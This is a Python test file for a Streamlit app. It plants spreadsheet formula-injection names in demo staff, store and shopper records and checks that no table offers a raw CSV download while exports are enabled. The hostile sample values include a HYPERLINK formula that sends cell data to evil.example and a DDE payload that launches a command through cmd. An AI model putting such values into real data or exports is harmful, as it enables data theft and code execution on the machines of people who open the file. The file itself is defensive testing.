"""No table offers a raw download of a cell a spreadsheet would run as a formula.

Streamlit's tables have their own "Download as CSV" (and cell copying), which writes cells
as they are, past the app's formula-safe exports (``ee_app/exports/safe.py``). Staff, store
and user names are typed by people and imported from files, so one of them can be
``=HYPERLINK(…)``. The app turns that export off (``client.disableDataExport`` in
``.streamlit/config.toml``, the configuration ``streamlit run`` reads from the repository
root); ``tests/e2e/test_tables.py`` checks in a real browser that the button is gone.

This test plants such names in the demo, opens every page an admin may open (an admin sees
every page HR sees, and more), and collects every table cell a name reached: it fails if any
table shows an unsafe cell while the app's configuration leaves the export on.
"""

from __future__ import annotations

import tomllib
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import select, update

from ee_app.db import make_engine, write_session
from ee_app.exports.safe import is_dangerous
from ee_app.models import AppUser, OrgUnit, Staff, UserRole
from ee_app.ui.navigation import pages_for

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_STAFF = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+86 138 0013 8000",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]
HOSTILE_STORE = '=HYPERLINK("http://evil.example","上海徐汇店")'
HOSTILE_SHOPPER = "=1+1 神秘顾客"


def export_disabled() -> bool:
    """What ``streamlit run`` from the repository root reads (``.streamlit/config.toml``)."""
    with (ROOT / ".streamlit" / "config.toml").open("rb") as handle:
        return bool(tomllib.load(handle).get("client", {}).get("disableDataExport", False))


def unsafe_cells(frame: pd.DataFrame) -> list[str]:
    cells = [str(c) for c in frame.columns if is_dangerous(str(c))]
    for column in frame.columns:
        cells += [v for v in frame[column].tolist() if is_dangerous(v)]
    return cells


@pytest.fixture
def hostile_names(app_db):
    engine = make_engine(app_db)
    with write_session(engine) as session:
        staff = session.scalars(select(Staff.id).order_by(Staff.id).limit(len(HOSTILE_STAFF)))
        for staff_id, name in zip(staff.all(), HOSTILE_STAFF, strict=True):
            session.execute(update(Staff).where(Staff.id == staff_id).values(name=name))
        session.execute(update(OrgUnit).where(OrgUnit.code == "SH02").values(name=HOSTILE_STORE))
        session.execute(
            update(AppUser).where(AppUser.role == UserRole.SHOPPER).values(name=HOSTILE_SHOPPER)
        )
        session.commit()
    engine.dispose()


def test_no_page_offers_a_raw_download_of_an_unsafe_cell(make_app, hostile_names):
    at = make_app("admin@demo.example")
    at.run()
    found: dict[str, list[str]] = {}
    for spec in pages_for(UserRole.ADMIN):
        at.switch_page(spec.path)
        at.run()
        assert not at.exception, (spec.path, at.exception)
        for table in at.dataframe:
            unsafe = unsafe_cells(table.value)
            if unsafe:
                found.setdefault(spec.path, []).extend(unsafe)
    # The planted names reached tables on several pages (staff, stores, shoppers): the check
    # below has something to check.
    assert len(found) >= 3, found
    reached = {cell for cells in found.values() for cell in cells}
    assert HOSTILE_STAFF[0] in reached and any(HOSTILE_STORE in c for c in reached), reached
    offered = {} if export_disabled() else found
    assert offered == {}, (
        "tables offer Streamlit's raw CSV download of cells a spreadsheet runs as formulas; "
        "set client.disableDataExport = true in .streamlit/config.toml"
    )
